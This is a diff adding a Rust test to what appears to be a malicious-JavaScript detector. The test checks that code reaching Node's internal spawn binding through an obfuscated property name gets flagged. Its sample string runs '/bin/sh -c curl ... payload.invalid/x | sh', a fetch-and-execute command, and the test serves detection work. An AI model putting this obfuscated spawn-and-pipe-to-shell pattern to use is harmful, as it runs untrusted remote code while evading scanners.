@@ -1530,3 +1530,17 @@ addEventListener('pagehide', function () { navigator.sendBeacon('/metrics', Stri
 "#;
     assert!(!has(counter, K::BrowserHijack), "{:?}", facts(counter));
 }
+
+#[test]
+fn a_process_started_through_nodes_internal_spawn_binding() {
+    let src = "const b = process['bin' + 'ding']('spawn_sync');\nb.spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl -s http://payload.invalid/x | sh'], stdio: [] });\n";
+    let k = kinds(src);
+    assert!(k.contains(&K::DownloadExecute), "{:?}", facts(src));
+    // Other bindings are not processes.
+    let other = "const fsb = process.binding('fs');\nmodule.exports = fsb;\n";
+    assert!(
+        !kinds(other).contains(&K::ProcessSpawn),
+        "{:?}",
+        facts(other)
+    );
+}
